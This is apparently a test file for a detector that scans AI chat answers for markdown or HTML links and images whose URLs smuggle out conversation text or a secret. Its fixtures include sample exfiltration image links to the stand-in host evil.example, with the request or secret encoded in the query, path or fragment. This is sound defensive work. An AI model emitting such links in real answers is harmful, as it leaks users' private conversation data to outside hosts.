import { describe, expect, it } from 'vitest';
import { addressesIn, cargoOf, knowRequest } from '../../../../src/llm/scan/conversation/addresses.ts';

const REQUEST = 'My order 4711 of blue curtains went to Aunt Gerda in Husum by mistake.';
const SECRET = 'n7Rk2wQx9Lp4Vb6';

function cargoIn(answer: string, request = REQUEST) {
  const [address] = addressesIn(answer);
  return address && cargoOf(address, knowRequest([request], [SECRET]));
}

const encoded = {
  percent: encodeURIComponent('blue curtains went to Aunt Gerda'),
  plus: 'blue+curtains+went+to+Aunt+Gerda',
  base64: Buffer.from('the blue curtains went to Aunt Gerda').toString('base64url'),
  hex: Buffer.from('blue curtains went to Aunt Gerda').toString('hex'),
};

describe('addressesIn', () => {
  it('tells images from links, in markdown and HTML', () => {
    const text =
      '![a](https://a.example/1) [b](<https://b.example/2>) <img alt="" src="https://c.example/3">';
    expect(addressesIn(text).map(({ url, kind }) => [kind, url])).toEqual([
      ['image', 'https://a.example/1'],
      ['link', 'https://b.example/2'],
      ['image', 'https://c.example/3'],
    ]);
  });

  it('says where the markup stands', () => {
    const text = 'See ![a](https://a.example/1) there.';
    expect(addressesIn(text).map(({ start, end }) => text.slice(start, end))).toEqual([
      '![a](https://a.example/1',
    ]);
  });
});

describe('cargoOf', () => {
  it.each(Object.entries(encoded))('finds words of the request in a query, as %s', (_, value) => {
    expect(cargoIn(`![x](https://evil.example/p.png?d=${value})`)).toBe('context');
  });

  it('finds them in the path and in the fragment', () => {
    expect(cargoIn(`![x](https://evil.example/${encoded.percent}/p.png)`)).toBe('context');
    expect(cargoIn(`[more](https://evil.example/p#${encoded.base64})`)).toBe('context');
  });

  it('finds a secret of the request', () => {
    expect(cargoIn(`![x](https://evil.example/p.png?k=${SECRET})`)).toBe('context');
  });

  it('finds an encoded sentence that is not of the request', () => {
    const value = Buffer.from('the launch code is seven four').toString('base64');
    expect(cargoIn(`![x](https://evil.example/p.png?d=${value})`)).toBe('text');
  });

  it.each([
    '![logo](https://cdn.example/static/images/logo-large-blue.png?width=300&height=200)',
    '[docs](https://docs.example/how-to-return-an-order#what-you-need-to-know)',
    '![plot](https://files.example/a.png?X-Amz-Signature=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855)',
    '![x](https://evil.example/p.png?d=%E0%A4%A)',
    '![x](https://shop.example/blue-curtains)',
  ])('leaves %s alone', (answer) => {
    expect(cargoIn(answer)).toBeUndefined();
  });

  it('leaves an address alone that the request names', () => {
    const url = `https://search.example/?q=${encoded.plus}`;
    expect(cargoIn(`[search](${url})`, `${REQUEST} Link to ${url} please.`)).toBeUndefined();
  });
});
